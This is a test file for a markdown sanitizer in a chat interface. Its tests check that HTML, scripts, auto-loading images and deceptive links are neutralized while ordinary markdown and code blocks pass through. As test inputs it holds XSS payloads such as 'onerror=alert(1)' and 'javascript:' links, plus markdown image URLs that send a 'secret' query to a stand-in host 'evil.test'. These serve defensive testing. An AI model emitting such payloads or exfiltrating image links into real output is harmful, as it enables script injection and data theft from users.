"""Nothing that loads, hides or acts gets through; everything a person wrote on purpose does."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.safe_text import SafeText, fence, one_line, plain, safe_markdown


def outside_fences(markdown: str) -> str:
    """What a renderer reads as markdown: the text without its fenced blocks, which all stand at the left edge."""
    kept, marker = [], ""
    for line in markdown.split("\n"):
        opening = re.match(r"(`{3,}|~{3,})", line)
        if marker:
            if line.rstrip().startswith(marker) and not line.rstrip().strip("`~"):
                marker = ""
        elif opening:
            marker = opening[1]
        else:
            kept.append(line)
    return "\n".join(kept)


@pytest.mark.parametrize(
    "hostile",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "text <iframe srcdoc='<b>'> text",
        "a\n<div style='background:url(http://evil.test/x)'>",
        "<!-- comment",
        "`code` <svg onload=alert(1)>",
        "``` not a fence` <img src=x>",
        "~~~ a`b\nx\n~~~\n<img src=x>",
        "```\ncode\n```~\n<img src=x>",
        "> ```\n> quoted\n<img src=x>",
        "- ~~~\n- <img src=x>",
        "<http://evil.test/?q=secret>",
        "\r<img src=x>",
        "```\ncode\r```\r<img src=x>",
    ],
)
def test_no_html_outside_a_code_block(hostile: str) -> None:
    safe = outside_fences(safe_markdown(hostile))
    assert "<" not in safe.replace("<code>", "").replace("</code>", "")


@pytest.mark.parametrize(
    "hostile",
    [
        "![x](http://evil.test/a.png?q=secret)",
        "![x]( http://evil.test/a.png )",
        '![x](http://evil.test/a.png "title")',
        "![a [b] c](http://evil.test/a.png)",
        "[![x](http://evil.test/a.png)](http://evil.test)",
        "![x][ref]\n\n[ref]: http://evil.test/a.png",
        "![ref]\n\n[ref]: http://evil.test/a.png",
        "![x](http://evil.test/a\n.png)",
        "![x](data:image/png;base64,AAAA)",
        "![x](/gradio_api/file=http://evil.test/a.png)",
        "![" * 50 + "x](http://evil.test/a.png)",
    ],
)
def test_no_image_survives(hostile: str) -> None:
    safe = safe_markdown(hostile)
    assert "![" not in safe
    assert not re.search(r"\]:\s", safe)


def test_a_blocked_image_says_which_host_was_meant() -> None:
    assert "blocked image" in safe_markdown("see ![x](https://evil.test/a.png)")
    assert "evil&#46;test" in safe_markdown("see ![x](https://evil.test/a.png)")
    assert "evil" not in safe_markdown("see ![my chart](chart.png)")
    assert "my chart" in safe_markdown("see ![my chart](chart.png)")


@pytest.mark.parametrize(
    ("link", "expected"),
    [
        (
            "[docs](https://example.org/a?b=1&c=2)",
            "[docs](https://example.org/a?b=1&amp;c=2) &#40;example&#46;org&#41;",
        ),
        ("[example.org](https://example.org/)", "[example.org](https://example.org/)"),
        ("[wiki](https://e.org/a_(b))", "[wiki](https://e.org/a_%28b%29) &#40;e&#46;org&#41;"),
        ("[bank](https://bank.test@evil.test/)", "[bank](https://bank.test@evil.test/) &#40;evil&#46;test&#41;"),
        ("[x](javascript:alert(1))", "x &#40;javascript:alert&#40;1&#41;&#41;"),
        ("[x](https://good.test\\@evil.test)", "x "),
        ("[notes](notes.md)", "notes &#40;notes&#46;md&#41;"),
        ("[a](http://exa", "[a]&#40;http://exa"),
    ],
)
def test_links_stay_and_show_their_host(link: str, expected: str) -> None:
    safe = safe_markdown(link).replace("&#58;", ":").replace("&#47;", "/")
    assert safe.startswith(expected)
    if expected == "x ":
        assert "](" not in safe


def test_ordinary_markdown_is_left_alone() -> None:
    text = "# Title\n\n1. **bold** and *soft*\n2. a & b\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\n$$x^2$$"
    assert safe_markdown(text) == text


def test_code_keeps_its_characters() -> None:
    block = "```python\nif a < b:\n    print('![x](http://a.b/c)')\n```"
    assert safe_markdown(block) == block
    assert safe_markdown("use `a < b` here") == "use <code>a &#60; b</code> here"


def test_code_inside_a_list_is_moved_to_the_left_edge() -> None:
    assert (
        safe_markdown("1. so:\n   ```py\n   x < 1\n     y\n   ```\n2. <b>")
        == "1. so:\n```py\nx < 1\n  y\n```\n2. &lt;b>"
    )


def test_a_half_written_fence_is_code_already() -> None:
    text = SafeText()
    text.add("look:\n```html\n<div>")
    assert text.view() == "look:\n```html\n<div>"
    text.add("</div>\n``")
    assert text.view().endswith("</div>\n``")
    text.add("`\n<b>")
    assert text.view().endswith("```\n&lt;b>")


@given(st.lists(st.text(alphabet="ab<>![]()`~:\n \\x/.h", max_size=12), max_size=12))
def test_pieces_give_what_the_whole_gives(pieces: list[str]) -> None:
    text = SafeText()
    for piece in pieces:
        text.add(piece)
        text.view()
    assert text.view() == safe_markdown("".join(pieces))


@given(st.text(alphabet="<img src=x>`~!()[]:\n -1.>", max_size=80))
def test_whatever_comes_no_tag_stands_outside_a_fence(text: str) -> None:
    safe = outside_fences(safe_markdown(text))
    assert "<" not in safe.replace("<code>", "").replace("</code>", "")


@given(st.text(alphabet="`~ab\n", max_size=60))
def test_a_fence_cannot_be_left(text: str) -> None:
    fenced = fence(text, "text").split("\n")
    marker = fenced[0].removesuffix("text")
    assert fenced[-1] == marker
    assert all(marker not in line for line in fenced[1:-1])


def test_plain_text_is_shown_as_typed() -> None:
    assert not re.search(r"[<>*_`\[\]!|]", plain("<b> *x* [a](http://b.c) `d` ![e](f) | _g_"))
    assert plain("a\n  b") == "a\n&#160;&#160;b"


def test_terminal_colours_and_control_characters_are_not_shown() -> None:
    assert fence("\x1b[31mred\x1b[0m\x07\x00") == "```\nred\n```"


def test_one_line_is_cut() -> None:
    assert one_line("a\n b\tc", 10) == "a b c"
    assert one_line("x" * 50, 10) == "x" * 9 + "…"


def test_a_long_answer_costs_its_length_and_not_its_square() -> None:
    """Counted in characters handed to the converter, not in seconds."""
    text = SafeText()
    for number in range(2_000):
        text.add(f"line {number} with [a link](https://example.org/{number})\n")
        if number % 20 == 0:
            text.view()
    assert len(text._fresh) < 21  # what is settled is never looked at again
    assert text.view().count("example.org") == 2_000
